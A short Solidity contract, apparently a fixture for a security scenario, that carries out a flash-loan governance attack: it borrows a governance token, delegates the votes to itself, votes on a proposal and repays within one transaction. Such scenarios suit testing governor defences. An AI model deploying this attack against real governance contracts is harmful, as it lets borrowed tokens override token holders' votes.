// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IVotes} from "@openzeppelin/contracts/governance/utils/IVotes.sol";
import {IGovernor} from "@openzeppelin/contracts/governance/IGovernor.sol";

/// Attacker contract for the flash-loan governance scenario: inside one transaction it
/// flash-borrows the governance token, delegates to itself, votes and repays.
contract FlashVoter is IERC3156FlashBorrower {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function attack(address token, address governor, uint256 proposalId, uint256 amount, uint8 support) external {
        require(msg.sender == owner, "FlashVoter: owner");
        IERC3156FlashLender(token).flashLoan(this, token, amount, abi.encode(governor, proposalId, support));
    }

    function onFlashLoan(address initiator, address token, uint256 amount, uint256 fee, bytes calldata data)
        external returns (bytes32)
    {
        require(initiator == address(this), "FlashVoter: initiator");
        (address governor, uint256 proposalId, uint8 support) = abi.decode(data, (address, uint256, uint8));
        IVotes(token).delegate(address(this));
        IGovernor(governor).castVote(proposalId, support);
        IERC20(token).approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
